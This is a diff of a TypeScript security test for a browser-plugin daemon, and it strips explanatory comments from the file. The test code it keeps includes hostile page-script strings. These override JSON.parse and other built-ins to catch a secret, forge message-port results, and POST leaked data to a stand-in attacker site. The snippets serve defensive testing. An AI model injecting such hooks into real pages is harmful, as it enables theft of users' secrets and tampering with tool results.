@@ -1,7 +1,4 @@
-/**
- * Threat: a hostile page runs its own code before any plugin starts. The page must neither read nor forge the arguments
- * and results of tools.
- */
+/** Threat: a hostile page runs its own code before any plugin starts. */
 import assert from 'node:assert/strict';
 import { after, before, test } from 'node:test';
 import type { Page } from 'playwright-core';
@@ -10,12 +7,8 @@ import { type Stack, startStack } from '../harness/stack.ts';
 import { waitFor } from '../harness/wait.ts';
 import { type AttackerSite, secretText, startAttackerSite } from './attacker.ts';
 
-/** defineNote is page code that defines the function note, which sends a leaked secret to the attacker's site. */
 const defineNote = `const send = fetch.bind(window), text = JSON.stringify; const note = (x) => send('/note', { method: 'POST', body: text(x) });`;
-/**
- * spyOnBuiltins is page code that replaces JavaScript built-ins. The replaced built-ins send secrets to the attacker's
- * site and forge results on message ports.
- */
+/** spyOnBuiltins is page code that replaces JavaScript built-ins. */
 const spyOnBuiltins = `
   const on = EventTarget.prototype.addEventListener, apply = Reflect.apply, parse = JSON.parse, then = Promise.prototype.then;
   JSON.parse = function (t) { if (String(t).includes('${secretText}')) note(['parse', t]); return apply(parse, JSON, arguments); };
@@ -63,9 +56,6 @@ after(async () => {
   await stack?.close();
 });
 
-/**
- * isPluginLive waits until the daemon lists the tab that shows path, and reports whether the plugin runs in that tab.
- */
 async function isPluginLive(path: string): Promise<boolean> {
   const tab = await waitFor(`the tab ${path}`, async () =>
     (await stack.listTabs()).find((tab) => tab.url === `${attackerSite.origin}${path}` && !('loading' in tab)),
@@ -73,15 +63,10 @@ async function isPluginLive(path: string): Promise<boolean> {
   return (tab.plugins ?? []).length > 0;
 }
 
-/** waitForTabCount waits until the daemon lists exactly count tabs. */
 async function waitForTabCount(count = 1): Promise<void> {
   await waitFor(`${count} tabs`, async () => (await stack.listTabs()).length === count);
 }
 
-/**
- * openOnlyTab waits until all other tabs are closed, clears the recorded leaks, and opens a page of the attacker's
- * site.
- */
 async function openOnlyTab(path: string): Promise<Page> {
   await waitForTabCount(0);
   attackerSite.leaks.length = 0;
@@ -90,10 +75,6 @@ async function openOnlyTab(path: string): Promise<Page> {
   return page;
 }
 
-/**
- * assertPageSawNothing calls tools in a tab that shows the hostile page. The tests fail if a result or an error has
- * changed, or if the page has read a secret.
- */
 async function assertPageSawNothing(): Promise<void> {
   const echo = await client.call('messages__echo', { value: secretText });
   assert.equal(echo.isError, false, echo.text);
@@ -131,8 +112,7 @@ test('page: a page in a window whose built-ins the opener replaced gets a plugin
   await opener.close();
   await waitForTabCount();
   assert.equal(await isPluginLive('/plain'), false, 'a plugin host runs with the built-ins of the opener');
-  // The tool call reloads the tab, which creates a new Window for the page. If opentabs does not reload the tab, the
-  // error of the tool call must contain a request to reload the tab.
+  // The tool call reloads the tab, which creates a new Window for the page.
   const echo = await client.call('messages__echo', { value: secretText });
   if (echo.isError) {
     assert.match(echo.text, /reload/);
